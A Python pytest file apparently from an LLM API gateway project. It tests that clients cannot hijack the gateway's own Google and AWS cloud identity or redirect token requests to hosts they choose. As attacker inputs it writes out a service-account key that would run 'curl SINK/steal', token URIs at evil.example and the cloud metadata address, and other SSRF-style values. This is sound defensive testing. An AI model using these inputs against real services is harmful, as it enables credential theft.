"""Threats: a client borrows the gateway's own cloud identity, sends it (or a token made from
it) to a host it chose, or makes the gateway post a JWT / fetch a URL of its choosing.

The gateway's identity here is real as far as google-auth and botocore can tell: ADC names a
key file whose token endpoint is a local fake, and the AWS chain finds a (fake) container
endpoint; STS is a fake too. Each test is the attacker's request; the identity's endpoints,
the attacker's sink and the upstream must stay silent.
"""

from __future__ import annotations

import json
import os
import pathlib
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from proxy.app import GATEWAY
from tests.providers.bedrock.fake_aws import FakeAws
from tests.providers.google.fake_auth import FakeGoogle, service_account
from tests.servers import ServerThread

KEY = "sk-test-provider-key-0001"
MSG = [{"role": "user", "content": "hi"}]
ROLE = "arn:aws:iam::111122223333:role/gateway"


class Identity:
    """The gateway's own identity endpoints: every call to them is counted."""

    def __init__(self, google: FakeGoogle, aws: FakeAws, url: str) -> None:
        self.google, self.aws, self.url = google, aws, url

    def calls(self) -> int:
        g, a = self.google, self.aws
        return (
            len(g.token_requests) + len(g.metadata_requests) + len(a.sts_calls) + a.container_hits
        )


@pytest.fixture
def mock_bedrock_keys() -> Iterator[tuple[Any, ServerThread]]:
    from tests.providers.bedrock.mock import MockBedrock

    mock = MockBedrock()
    with ServerThread(mock.app) as server:
        yield mock, server


@pytest.fixture
def identity(monkeypatch: pytest.MonkeyPatch, tmp_path: pathlib.Path) -> Iterator[Identity]:
    google, aws = FakeGoogle(), FakeAws({})

    def app() -> Any:
        a = google.app()
        a.add_subapp("/aws", aws.app())
        return a

    with ServerThread(app) as server:
        key = service_account(server.url + "/token", "gateway@ops.iam.gserviceaccount.com")
        google.register(key["client_email"])
        path = tmp_path / "adc.json"
        path.write_text(json.dumps(key))
        for name in list(os.environ):
            if name.startswith("AWS_"):
                monkeypatch.delenv(name)
        monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(path))
        monkeypatch.setenv("CLOUDSDK_CONFIG", str(tmp_path))
        monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "none"))
        monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", str(tmp_path / "none"))
        monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")
        monkeypatch.setenv(
            "AWS_CONTAINER_CREDENTIALS_FULL_URI", server.url + "/aws/ecs/credentials"
        )
        monkeypatch.setenv("AWS_ENDPOINT_URL_STS", server.url + "/aws/")
        yield Identity(google, aws, server.url)


def post(gw: Any, headers: dict[str, str], model: str = "gemini-2.5-flash") -> httpx.Response:
    body = {"model": model, "messages": MSG}
    headers = {"authorization": f"Bearer {KEY}", **headers}
    return httpx.post(gw.url + "/v1/chat/completions", json=body, headers=headers, timeout=10)


def vertex(host: str, **extra: str) -> dict[str, str]:
    return {
        "x-portkey-provider": "vertex-ai",
        "x-portkey-custom-host": host,
        "x-portkey-vertex-project-id": "victim",
        **extra,
    }


def bedrock(host: str, **extra: str) -> dict[str, str]:
    return {"x-portkey-provider": "bedrock", "x-portkey-custom-host": host, **extra}


def config(host: str, **fields: str) -> dict[str, str]:
    return {"x-portkey-config": json.dumps({"custom_host": host, **fields})}


ASKS = {
    "vertex-auth-header": lambda h: vertex(h, **{"x-portkey-vertex-auth": "adc"}),
    "vertex-auth-inline": lambda h: config(h, provider="vertex-ai", vertex_auth="adc"),
    "vertex-auth-camel": lambda h: config(h, provider="vertex-ai", vertexAuth="adc"),
    "aws-auth-header": lambda h: bedrock(h, **{"x-portkey-aws-auth": "chain"}),
    "aws-role-header": lambda h: bedrock(h, **{"x-portkey-aws-role-arn": ROLE}),
    "aws-profile-header": lambda h: bedrock(h, **{"x-portkey-aws-profile": "default"}),
    "aws-auth-inline": lambda h: config(h, provider="bedrock", aws_auth="chain"),
    "aws-role-inline": lambda h: config(
        h, provider="bedrock", aws_role_arn=ROLE, aws_external_id="theirs"
    ),
    "aws-profile-inline": lambda h: config(h, provider="bedrock", aws_profile="prod"),
}


@pytest.mark.parametrize("ask", sorted(ASKS))
def test_a_client_cannot_turn_on_the_gateways_own_identity(
    make_gateway, identity: Identity, sink, ask: str
) -> None:
    attacker, server = sink
    gw = make_gateway()
    r = post(gw, ASKS[ask](server.url), model="anthropic.claude-3-haiku-20240307-v1:0")
    assert r.status_code == 403, r.text
    assert r.json()["error"]["code"] == "credential_binding"
    assert attacker.hits == [] and identity.calls() == 0


SETTINGS = {
    "vx": {"provider": "vertex-ai", "vertex_auth": "adc", "vertex_project_id": "ops"},
    "aws": {"provider": "bedrock", "aws_auth": "chain"},
    "role": {"provider": "bedrock", "aws_role_arn": ROLE, "aws_external_id": "ext-ours"},
}


@pytest.mark.parametrize("slug", sorted(SETTINGS))
@pytest.mark.parametrize("how", ["header", "inline-config"])
def test_the_gateways_identity_never_follows_a_client_host(
    make_gateway, identity: Identity, sink, slug: str, how: str
) -> None:
    attacker, server = sink
    gw = make_gateway({"providers": SETTINGS})
    if how == "header":
        headers = {"x-portkey-custom-host": server.url}
    else:
        headers = config(server.url, virtual_key=slug)
    r = post(gw, headers, model=f"@{slug}/m" if how == "header" else "m")
    assert r.status_code == 403, r.text
    assert r.json()["error"]["code"] == "credential_binding"
    assert attacker.hits == [] and identity.calls() == 0


@pytest.mark.parametrize(
    "header",
    [
        {"x-portkey-vertex-project-id": "victim"},  # whom the identity acts for
        {"x-portkey-aws-external-id": "guessed"},
        {"x-portkey-aws-role-session-name": "admin"},  # what CloudTrail would show
    ],
)
def test_a_client_cannot_reshape_the_gateways_identity(
    make_gateway, identity: Identity, header: dict[str, str]
) -> None:
    gw = make_gateway({"providers": SETTINGS})
    slug = "vx" if "vertex" in next(iter(header)) else "role"
    r = post(gw, header, model=f"@{slug}/m")
    assert r.status_code == 403, r.text
    assert r.json()["error"]["code"] == "credential_binding"
    assert identity.calls() == 0


def test_a_client_region_does_not_make_the_gateway_assume_its_role_again(
    make_gateway, identity: Identity, mock_bedrock_keys
) -> None:
    """The region a client picks moves Bedrock's host, never the STS source: one AssumeRole
    for any number of client regions (no STS amplification, no cache churn)."""
    mock, upstream = mock_bedrock_keys
    identity.aws.bedrock_keys = mock.keys
    identity.aws.known = {"AKIDCONTAINERFAKE001": ("x", None)}
    entry = {"provider": "bedrock", "aws_role_arn": ROLE, "custom_host": upstream.url}
    entry |= {"aws_access_key_id": "AKIDCONTAINERFAKE001", "aws_secret_access_key": "x"}
    gw = make_gateway({"providers": {"role": entry}})
    for region in ("eu-west-3", "us-east-1", "ap-south-1", "xx-evil-9"):
        r = post(gw, {"x-portkey-aws-region": region}, model="@role/amazon.nova-pro-v1:0")
        assert r.status_code == 200, r.text
    assert len(identity.aws.sts_calls) == 1


# ---------------------------------------------------------------- a client's own key


def client_key(token_uri: str, **changes: Any) -> str:
    key: dict[str, Any] = service_account(token_uri, "mine@proj.iam.gserviceaccount.com")
    key.update(changes)
    return json.dumps(key)


def test_a_client_key_posts_its_jwt_only_to_googles_token_endpoint(make_gateway, sink) -> None:
    attacker, server = sink
    gw = make_gateway()
    for uri in (server.url + "/token", "http://169.254.169.254/token", "https://evil.example/t"):
        key = client_key(uri)
        r = post(gw, vertex(server.url, **{"x-portkey-vertex-service-account-json": key}))
        assert r.status_code == 400, r.text
        assert r.json()["error"]["code"] == "invalid_service_account"
        assert "private_key" not in r.text
    assert attacker.hits == []


def test_a_token_uri_settings_allow_still_meets_the_egress_policy(make_gateway, sink) -> None:
    """Listed by settings, but its name resolves into a denied network: never called."""
    attacker, server = sink
    uri = f"http://localhost:{server.port}/token"
    gw = make_gateway(
        {
            "credentials": {"google_token_uris": [uri]},
            "custom_hosts": {"deny": ["127.0.0.0/8", "::1/128"]},
        }
    )
    key = client_key(uri)
    r = post(
        gw,
        vertex(
            "https://aiplatform.googleapis.com", **{"x-portkey-vertex-service-account-json": key}
        ),
    )
    assert r.status_code == 502, r.text
    assert r.json()["error"]["code"] == "token_endpoint_unreachable"
    gw2 = make_gateway(
        {"credentials": {"google_token_uris": [uri]}, "custom_hosts": {"allow": ["api.example"]}}
    )
    r = post(gw2, vertex("https://api.example", **{"x-portkey-vertex-service-account-json": key}))
    assert r.status_code == 403, r.text
    assert attacker.hits == []


@pytest.mark.parametrize(
    "key",
    [
        # external_account names a URL (or a program) google-auth would fetch (or run)
        {"type": "external_account", "credential_source": {"url": "SINK/steal"}},
        {
            "type": "external_account",
            "credential_source": {"executable": {"command": "curl SINK/steal"}},
        },
        {"type": "authorized_user", "refresh_token": "r", "token_uri": "SINK/token"},
        {"type": "impersonated_service_account", "service_account_impersonation_url": "SINK/i"},
        "not json",
        ["a", "list"],
    ],
)
def test_only_a_service_account_key_is_read(make_gateway, sink, key: Any) -> None:
    attacker, server = sink
    text = key if isinstance(key, str) else json.dumps(key).replace("SINK", server.url)
    gw = make_gateway()
    r = post(gw, vertex(server.url, **{"x-portkey-vertex-service-account-json": text}))
    assert r.status_code == 400, r.text
    assert r.json()["error"]["code"] == "invalid_service_account"
    assert attacker.hits == []


def test_a_huge_private_key_is_refused_before_any_crypto(make_gateway, identity: Identity) -> None:
    gw = make_gateway({"credentials": {"google_token_uris": [identity.url + "/token"]}})
    key = client_key(
        identity.url + "/token", private_key="-----BEGIN PRIVATE KEY-----" + "A" * 6000
    )
    r = post(gw, vertex(identity.url, **{"x-portkey-vertex-service-account-json": key}))
    assert r.status_code == 400, r.text
    assert identity.calls() == 0


def test_someone_elses_client_email_never_gets_their_token(
    make_gateway, identity: Identity
) -> None:
    """Keys are cached by a digest of the whole key: the victim's email with another private
    key is a new key, which the token endpoint refuses; the victim's token is never used."""
    from tests.providers.google.mock import MockGemini

    google = identity.google
    victim_email = "victim@proj.iam.gserviceaccount.com"
    google.register(victim_email, n=0)
    mock = MockGemini(tokens=google.issued)
    with ServerThread(mock.app) as upstream:
        gw = make_gateway({"credentials": {"google_token_uris": [identity.url + "/token"]}})
        victim = json.dumps(service_account(identity.url + "/token", victim_email, n=0))
        r = post(gw, vertex(upstream.url, **{"x-portkey-vertex-service-account-json": victim}))
        assert r.status_code == 200, r.text
        seen = len(mock.bearers)
        forged = json.dumps(service_account(identity.url + "/token", victim_email, n=1))
        r = post(gw, vertex(upstream.url, **{"x-portkey-vertex-service-account-json": forged}))
        assert r.status_code == 401, r.text
        assert r.json()["error"]["code"] == "invalid_service_account"
        assert len(mock.bearers) == seen  # no call, with the victim's token or any other


def test_a_flood_of_client_keys_stays_bounded(make_gateway, identity: Identity) -> None:
    gw = make_gateway(
        {
            "credentials": {
                "google_token_uris": [identity.url + "/token"],
                "max_client_sources": 8,
            }
        }
    )
    for i in range(40):
        email = f"flood{i}@proj.iam.gserviceaccount.com"
        identity.google.register(email)
        key = json.dumps(service_account(identity.url + "/token", email))
        post(gw, vertex(identity.url, **{"x-portkey-vertex-service-account-json": key}))
    assert len(identity.google.token_requests) == 40
    assert len(gw.app[GATEWAY].credentials.client) <= 8
